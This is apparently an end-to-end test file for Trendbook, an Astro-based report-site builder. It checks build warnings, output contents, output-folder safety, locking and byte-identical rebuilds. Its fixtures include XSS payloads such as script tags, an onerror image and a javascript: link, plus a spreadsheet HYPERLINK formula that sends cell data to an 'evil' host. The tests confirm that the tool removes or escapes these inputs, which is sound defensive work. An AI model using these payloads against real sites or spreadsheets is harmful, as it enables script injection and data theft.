/**
 * Builds whole sites the way a user does (`npm run build`) and checks what
 * lands in the output folder.
 */
import { type ChildProcess, spawn, spawnSync } from 'node:child_process';
import { cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { listDatasets } from '../../src/lib/data/load-dataset.ts';
import { astroCacheDir } from '../../src/lib/project-paths.ts';
import { readXlsx } from '../lib/data/downloads/read-xlsx.ts';

const ROOT = resolve(import.meta.dirname, '../..');
const temp = mkdtempSync(join(tmpdir(), 'trendbook-build-'));
const idlers: ChildProcess[] = [];
afterAll(() => {
  for (const child of idlers) child.kill('SIGKILL');
  rmSync(temp, { recursive: true, force: true });
});

/** A process that idles for two minutes with these extra arguments on its command line; returns its pid. */
async function idle(...args: string[]): Promise<number> {
  const child = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 120_000)', ...args], { stdio: 'ignore' });
  idlers.push(child);
  await new Promise((resolve) => child.once('spawn', resolve));
  return child.pid!;
}

function build(site: string, out: string, command: 'build' | 'astro' = 'build') {
  const args =
    command === 'build'
      ? [join(ROOT, 'scripts/build.ts')]
      : [join(ROOT, 'node_modules/astro/bin/astro.mjs'), 'build', '--silent'];
  const result = spawnSync(process.execPath, args, {
    cwd: ROOT,
    env: { ...process.env, TRENDBOOK_SITE: site, TRENDBOOK_OUT: out, ASTRO_TELEMETRY_DISABLED: '1' },
    encoding: 'utf8',
  });
  return { status: result.status, stdout: result.stdout, stderr: result.stderr };
}

describe('a site no one on the team wrote, with spreadsheet quirks', () => {
  const out = join(temp, 'quirks');
  let result: ReturnType<typeof build>;
  let page = '';
  beforeAll(() => {
    result = build(join(ROOT, 'tests/fixtures/site'), out);
    const file = join(out, 'reports/creators/index.html');
    page = existsSync(file) ? readFileSync(file, 'utf8') : '';
  });

  it('builds and prints a one-line summary, after the warnings for a title too long for its card, raw HTML and a javascript: link', () => {
    expect(result.stderr).toBe(
      [
        "content/reports/hostile.md:2:8: warning: the title takes 4 lines on the report's social card, which has room for 3. Expected text that fits 3 lines on the card, received 4 lines. Add card_title: to the frontmatter with a shorter title for the card (about 60 characters beside a chart); the page keeps the full title. [TB154]",
        'content/reports/hostile.md:12:1: warning: raw HTML removed. Expected Markdown only, received "<script>alert(\\"raw\\")</script>". Write it in Markdown (a ::chart, a link, **bold**); reports cannot run HTML or scripts. [TB126]',
        'content/reports/hostile.md:14:3: warning: raw HTML removed. Expected Markdown only, received "<img src=x onerror=alert(1)>". Write it in Markdown (a ::chart, a link, **bold**); reports cannot run HTML or scripts. [TB126]',
        'content/reports/hostile.md:14:40: warning: link target removed. Expected an http:, https: or mailto: address, a relative path or a #fragment, received "javascript:alert(1)". Link to a web page instead; other schemes can run code in the reader’s browser. [TB127]',
        '4 warnings found. The build goes on; run it with --strict to fail on warnings.',
        '',
      ].join('\n'),
    );
    expect(result.status).toBe(0);
    const lines = result.stdout.trim().split('\n');
    // Long stages print one line each (never a spinner: this is not a terminal).
    // A build of this checkout running beside it (another folder or site) makes it wait its turn for Astro, and say so.
    for (const line of lines.slice(0, -1))
      expect(line).toMatch(
        /^(Images: \d+ of \d+ drawn \(\d+\.\d s\)|Pages: built by Astro in \d+\.\d s|Pages: waiting for another build of this checkout \(pid \d+\) to finish its pages)$/,
      );
    expect(lines.at(-1)).toMatch(
      /^Built 2 reports, 3 charts and 17 pages from 2 datasets in \d+\.\d s → .+\/; images: \d+ drawn( \(\d+ PNG, \d+ SVG\))?( on \d cores)?, \d+ from cache; 1 missing value in number columns, left as gaps \(creators: 1\)$/,
    );
    // Per chart its figure drawings, its card (also its PNG download) and its SVG download; 2 report cards and the site card.
    const [, drawn, cached] = /images: (\d+) drawn(?: \(\d+ PNG, \d+ SVG\))?(?: on \d cores)?, (\d+) from cache/.exec(
      lines.at(-1)!,
    )!;
    expect(Number(drawn) + Number(cached)).toBe(12);
  });

  it('emits one figure with a canvas per ::chart', () => {
    expect(page.match(/<figure class="chart"/g)).toHaveLength(2);
    expect(page.match(/<canvas /g)).toHaveLength(2);
    expect(page).toContain('id="engagement-by-tier"');
    expect(page).toContain('id="fee-per-post-by-tier"');
  });

  it('reads BOM, CRLF, quoted commas, percent strings and thousands separators faithfully', () => {
    const spec = JSON.parse(/<script type="application\/json" class="chart__spec">(.*?)<\/script>/.exec(page)![1]!);
    expect(spec.x.column).toBe('Year');
    expect(spec.series.map((series: { key: string; values: unknown[] }) => [series.key, series.values])).toEqual([
      ['micro', [3.1, 2.9, 2.7]],
      ['mega', [1.2, 1.1, null]],
    ]);
    expect(page).toContain('<td>$1,200</td>');
    expect(page).toContain('<td>$30,000</td>');
    expect(page).toContain(
      'Micro engagement in 2022 was <span class="stat" data-stat="" tabindex="0" aria-describedby="stat-working-1">3.1%<span class="stat__working" role="tooltip" id="stat-working-1" data-pagefind-ignore="">Average engagement, Micro, 2022: 3.1%. Source: Example Research, 2024. <a href="#engagement-by-tier">See the chart “Average engagement by tier”</a></span></span>',
    );
    expect(page).toContain(
      'aria-describedby="stat-working-2">21 times<span class="stat__working" role="tooltip" id="stat-working-2" data-pagefind-ignore="">Fee, 2024: Mega / celebrity $30,000 against Micro $1,400, 21.4× as much. Source: Example Research, 2024.',
    );
  });

  it('keeps prose with colons and directives in code as written, and escapes markup in titles', () => {
    expect(page).toContain('Meet at 10:30 UTC, a 3:1 ratio, note:important and');
    expect(page).toContain('<code>::chart{dataset="x"}</code>');
    expect(page).toContain('<h1>Creators &amp; fees: a &lt;small&gt; report</h1>');
  });

  it('keeps the words around removed HTML and link targets', () => {
    const hostile = readFileSync(join(out, 'reports/hostile/index.html'), 'utf8');
    expect(hostile).toContain('<p>A  link to a script in prose.</p>');
    expect(hostile).not.toContain('alert("raw")');
    // Headings cannot take ids the page uses (<main id="main">) or object internals (B7 in tests/checklist/README.md).
    expect(hostile).toContain('<h2 id="section-main">Main</h2>');
    expect(hostile).toContain('<h2 id="section-__proto__"><code>__proto__</code></h2>');
    expect(hostile.match(/ id="main"/g)).toHaveLength(1);
  });

  it('fails on the same warnings with --strict', () => {
    const strict = spawnSync(process.execPath, [join(ROOT, 'scripts/check.ts'), '--strict'], {
      cwd: ROOT,
      env: { ...process.env, TRENDBOOK_SITE: join(ROOT, 'tests/fixtures/site') },
      encoding: 'utf8',
    });
    expect(strict.status).toBe(1);
    expect(strict.stderr.trim().split('\n').at(-1)).toBe('4 warnings found. --strict counts warnings as problems.');
  });

  it('keeps drafts out of the build, the feed, the sitemap, tag pages and search', () => {
    expect(existsSync(join(out, 'reports/unfinished'))).toBe(false);
    expect(existsSync(join(out, 'tags/draft-only-tag'))).toBe(false);
    for (const file of ['index.html', 'rss.xml', 'sitemap-0.xml', 'tags/index.html'])
      expect(readFileSync(join(out, file), 'utf8'), file).not.toContain('unfinished');
    const searchIndex = readdirSync(join(out, 'pagefind'), { recursive: true }).map(String);
    expect(searchIndex.length).toBeGreaterThan(0);
    expect(readFileSync(join(out, 'pagefind/pagefind-entry.json'), 'utf8')).toMatch(/"page_count":2\b/);
  });

  it('names no canonical address on the 404 page, which has none', () => {
    const notFound = readFileSync(join(out, '404.html'), 'utf8');
    expect(notFound).toContain('<meta name="robots" content="noindex">');
    expect(notFound).not.toContain('rel="canonical"');
    expect(notFound).not.toContain('og:url');
    expect(readFileSync(join(out, 'index.html'), 'utf8')).toContain('rel="canonical"');
  });

  it('lets a column name on the data page break after an underscore, not inside a word', () => {
    const data = readFileSync(join(out, 'data', 'index.html'), 'utf8');
    expect(data).toContain('<code>avg_<wbr>engagement</code>');
  });

  it('lists the report on the home page', () => {
    const home = readFileSync(join(out, 'index.html'), 'utf8');
    expect(home).toContain('href="/reports/creators/"');
  });

  it('publishes hostile labels in the XLSX download as text a spreadsheet never runs, escaped', () => {
    const [data] = readXlsx(readFileSync(join(out, 'data', 'hostile.xlsx'))).sheets;
    const labels = ['B2', 'B4', 'B6', 'B8'].map((ref) => data!.cells.get(ref));
    expect(labels).toEqual([
      { type: 's', value: '<img src=x onerror=alert(1)>', format: 'General', bold: false, quoted: false },
      { type: 's', value: '</script><script>alert(2)</script>', format: 'General', bold: false, quoted: false },
      { type: 's', value: '=HYPERLINK("http://evil/?"&A1,"Click")', format: 'General', bold: false, quoted: true },
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a hostile label that must stay literal text.
      { type: 's', value: '{{x}} and ${y} and U+2028:\u2028end', format: 'General', bold: false, quoted: false },
    ]);
    expect(data!.xml).not.toMatch(/<f[ >]/);
  });

  it('marks its output as a build’s, so the next build may replace it', () => {
    expect(readFileSync(join(out, '.trendbook-output'), 'utf8')).toBe(
      'Built by Trendbook: npm run build replaces this folder.\n',
    );
  });
});

describe('a site with mistakes', () => {
  const site = join(ROOT, 'tests/fixtures/site-broken');

  it('lists every problem with file and line, exits non-zero and leaves the previous output alone', () => {
    const out = join(temp, 'broken');
    cpSync(join(ROOT, 'tests/fixtures/site/data'), join(temp, 'previous'), { recursive: true });
    cpSync(join(temp, 'previous'), out, { recursive: true });
    writeFileSync(join(out, '.trendbook-output'), 'an earlier build\n');
    const result = build(site, out);
    expect(result.status).toBe(1);
    expect(result.stdout).toBe('');
    expect(result.stderr).toBe(
      [
        `content/reports/broken.md:7:9: unknown dataset "tires": no file named exactly data/tires.csv. Expected one of "tiers", received "tires". Did you mean dataset="tiers"? [TB019]`,
        'content/reports/broken.md:9:9: the dataset "tiers" cannot be used: data/tiers.csv has 3 problems (listed below). Fix the dataset first. [TB116]',
        'content/reports/broken.md:11:1: unknown directive ::Chart. Expected ::chart{…} on its own line, or :stat{…} in a sentence, received "::Chart". Did you mean ::chart{…}? [TB124]',
        'data/tiers.csv:1:27: duplicate column "engagement_rate" (columns 3 and 4). Expected each column name once, received "engagement_rate" twice. Rename one of the columns, or delete the copy. [TB010]',
        'data/tiers.csv:4:1: this row has 3 fields, the header has 4. Expected 4 fields, received 3 ("2018,micro,2.0"). Add the missing fields (empty ones are fine: write nothing between the commas). [TB011]',
        // "abc" makes the column text, which only a chart or stat measuring it reports; a spreadsheet error is an error in any column.
        'data/tiers.csv:6:12: column "engagement_rate" holds the spreadsheet error "#DIV/0!". Expected a value, or an empty cell for a missing one, received "#DIV/0!". Fix the formula in the spreadsheet and export again, or leave the cell empty for a missing value. [TB038]',
        '6 problems found.',
        `Build stopped; ${out}/ is unchanged.`,
        '',
      ].join('\n'),
    );
    expect(readFileSync(join(out, 'creators.csv'))).toEqual(readFileSync(join(temp, 'previous', 'creators.csv')));
  });

  it('fails astro build itself too, so a remark error never becomes an empty page', () => {
    const out = join(temp, 'broken-astro');
    const result = build(site, out, 'astro');
    expect(result.status).not.toBe(0);
    expect(`${result.stdout}${result.stderr}`).toContain(
      'content/reports/broken.md:7:9: unknown dataset "tires": no file named exactly ',
    );
  });
});

describe('a CSV edit', () => {
  it('shows up in the next build (no stale content cache)', () => {
    const site = join(temp, 'editable');
    cpSync(join(ROOT, 'tests/fixtures/site'), site, { recursive: true });
    const out = join(temp, 'editable-out');
    expect(build(site, out).status).toBe(0);
    expect(readFileSync(join(out, 'reports/creators/index.html'), 'utf8')).toContain(
      'aria-describedby="stat-working-1">3.1%<span',
    );
    const csv = join(site, 'data/creators.csv');
    writeFileSync(csv, readFileSync(csv, 'utf8').replace('2022,micro,3.1%', '2022,micro,3.4%'));
    expect(build(site, out).status).toBe(0);
    expect(readFileSync(join(out, 'reports/creators/index.html'), 'utf8')).toContain(
      'aria-describedby="stat-working-1">3.4%<span',
    );
  });
});

describe('the example report', () => {
  it('stops building when its data no longer supports a sentence', () => {
    const site = join(temp, 'example-edited');
    cpSync(join(ROOT, 'data'), join(site, 'data'), { recursive: true });
    cpSync(join(ROOT, 'content'), join(site, 'content'), { recursive: true });
    const csv = join(site, 'data/engagement.csv');
    // Markerly's micro like rate, 2.37, becomes 2.0: the 43% and 1.4× claims stop holding.
    writeFileSync(csv, readFileSync(csv, 'utf8').replace('2016,micro,2.37,', '2016,micro,2.0,'));
    const result = build(site, join(temp, 'example-edited-out'));
    expect(result.status).toBe(1);
    const lines = result.stderr.split('\n');
    expect(lines.filter((line) => line.includes('the text says 43% but data/engagement.csv gives 20%'))).toHaveLength(
      2,
    );
    expect(
      lines.filter((line) =>
        line.includes('the text says 1.4 times but data/engagement.csv gives 1.2× (2 / 1.66, year=2016)'),
      ),
    ).toHaveLength(1);
    expect(result.stderr).toContain(
      `problems found.\nBuild stopped; ${join(temp, 'example-edited-out')}/ is unchanged.\n`,
    );
  });
});

describe('the output folder', () => {
  it('is never the project, its sources or a parent of them', () => {
    for (const out of [ROOT, resolve(ROOT, '..'), join(ROOT, 'tests/fixtures/site/data')]) {
      const result = build(join(ROOT, 'tests/fixtures/site'), out);
      expect(result.status).toBe(1);
      expect(result.stderr).toMatch(
        /^TRENDBOOK_OUT=.+: the output folder would replace .+, deleting source files\. Expected a folder of its own such as dist\/\. Set TRENDBOOK_OUT to an empty or build-only folder\. \[TB256\]\n$/,
      );
    }
    expect(existsSync(join(ROOT, 'package.json'))).toBe(true);
  });

  it('is never a folder a build did not make', () => {
    const out = join(temp, 'someone-elses');
    mkdirSync(out, { recursive: true });
    writeFileSync(join(out, 'notes.txt'), 'keep me\n');
    const result = build(join(ROOT, 'tests/fixtures/site'), out);
    expect(result.status).toBe(1);
    expect(result.stderr).toBe(
      `TRENDBOOK_OUT=${out}: the folder exists and was not made by a Trendbook build (it has no .trendbook-output file), so replacing it could delete files. Expected an empty folder or an earlier build's output. Move its contents away, or choose another folder. [TB257]\n`,
    );
    expect(readFileSync(join(out, 'notes.txt'), 'utf8')).toBe('keep me\n');
  });

  it('is never another Astro site’s output, however much it looks like a build’s', () => {
    const out = join(temp, 'other-astro-site');
    const files: Record<string, string> = {
      '_astro/index.abc123.css': 'body{}',
      'index.html': '<!doctype html><title>Another site</title>',
      'uploads/photo.jpg': 'JPEG bytes',
      'precious-upload.txt': 'the only copy\n',
    };
    for (const [file, text] of Object.entries(files)) {
      mkdirSync(dirname(join(out, file)), { recursive: true });
      writeFileSync(join(out, file), text);
    }
    const result = build(join(ROOT, 'tests/fixtures/site'), out);
    expect(result.stderr).toBe(
      `TRENDBOOK_OUT=${out}: the folder exists and was not made by a Trendbook build (it has no .trendbook-output file), so replacing it could delete files. Expected an empty folder or an earlier build's output. Move its contents away, or choose another folder. [TB257]\n`,
    );
    expect(result.status).toBe(1);
    const left = readdirSync(out, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile());
    expect(left).toHaveLength(4);
    for (const [file, text] of Object.entries(files)) expect(readFileSync(join(out, file), 'utf8'), file).toBe(text);
  });

  it('is built by one build at a time, and the refusal names the lock', async () => {
    const out = join(temp, 'locked', 'dist');
    const lock = join(dirname(out), '.dist.lock');
    mkdirSync(dirname(out), { recursive: true });
    // A process running scripts/build.ts holds the lock: to the build it is a live build.
    const holder = await idle(join(ROOT, 'scripts/build.ts'));
    writeFileSync(lock, `${holder} 2026-11-26T10:00:00.000Z\n`);
    const result = build(join(ROOT, 'tests/fixtures/site'), out);
    expect(result.stderr).toBe(
      `${lock}: a build is already running (pid ${holder}, started 2026-11-26T10:00:00.000Z) for ${out}/. Expected one build at a time per output folder, received a second. Wait for it to finish or stop it; if pid ${holder} is not a Trendbook build, delete ${lock}. [TB258]\n`,
    );
    expect(result.status).toBe(1);
    expect(readFileSync(lock, 'utf8')).toBe(`${holder} 2026-11-26T10:00:00.000Z\n`);
    expect(existsSync(out)).toBe(false);
  });

  it('takes over a lock whose process id now belongs to another program, saying so', async () => {
    const out = join(temp, 'reused-pid', 'dist');
    const lock = join(dirname(out), '.dist.lock');
    mkdirSync(dirname(out), { recursive: true });
    // The build that wrote the lock crashed; its id went to a program that runs on and is no build.
    const holder = await idle();
    writeFileSync(lock, `${holder} 2026-11-26T10:00:00.000Z\n`);
    const result = build(join(ROOT, 'tests/fixtures/site'), out);
    expect(result.stderr.split('\n')[0]).toBe(
      `${lock}: taken over from pid ${holder} (started 2026-11-26T10:00:00.000Z), which is now another program, not a build.`,
    );
    expect(result.status).toBe(0);
    expect(existsSync(join(out, 'index.html'))).toBe(true);
    expect(existsSync(lock)).toBe(false);
  });
});

describe('two builds of the same input', () => {
  it('give byte-identical output, into folders whose parents do not exist yet, also when run at the same time', async () => {
    const first = join(temp, 'twice', 'one', 'dist');
    const second = join(temp, 'twice', 'two', 'dist');
    expect(build(join(ROOT, 'tests/fixtures/site'), first).status).toBe(0);
    const again = build(join(ROOT, 'tests/fixtures/site'), second);
    expect(again.status).toBe(0);
    // Nothing changed, so no image is drawn again.
    expect(again.stdout).toMatch(/; images: 0 drawn, 12 from cache;/);
    const files = (dir: string): string[] =>
      readdirSync(dir, { recursive: true, withFileTypes: true })
        .filter((entry) => entry.isFile())
        .map((entry) => join(entry.parentPath, entry.name).slice(dir.length))
        .sort();
    expect(files(second)).toEqual(files(first));
    // Every dataset's downloads are among the files compared: the XLSX and Parquet files are generated too.
    const datasets = listDatasets(join(ROOT, 'tests/fixtures/site'));
    expect(datasets).toEqual(['creators', 'hostile']);
    for (const name of datasets)
      for (const extension of ['csv', 'xlsx', 'parquet']) expect(files(first)).toContain(`/data/${name}.${extension}`);
    for (const file of files(first)) {
      expect(readFileSync(join(second, file)).equals(readFileSync(join(first, file))), file).toBe(true);
    }

    // Two builds of one checkout into different folders at once: each has its own Astro store, and both match.
    const site = join(ROOT, 'tests/fixtures/site');
    const outs = [join(temp, 'twice', 'three', 'dist'), join(temp, 'twice', 'four', 'dist')];
    const statuses = await Promise.all(
      outs.map(
        (out) =>
          new Promise<number | null>((done) => {
            const child = spawn(process.execPath, [join(ROOT, 'scripts/build.ts')], {
              cwd: ROOT,
              env: { ...process.env, TRENDBOOK_SITE: site, TRENDBOOK_OUT: out, ASTRO_TELEMETRY_DISABLED: '1' },
              stdio: 'ignore',
            });
            child.on('close', done);
          }),
      ),
    );
    expect(statuses).toEqual([0, 0]);
    const stores = outs.map((out) => join(astroCacheDir(site, out), 'data-store.json'));
    expect(new Set(stores).size).toBe(2);
    for (const [index, out] of outs.entries()) {
      expect(existsSync(stores[index]!), stores[index]).toBe(true);
      expect(files(out)).toEqual(files(first));
      for (const file of files(first))
        expect(readFileSync(join(out, file)).equals(readFileSync(join(first, file))), file).toBe(true);
    }
  });
});
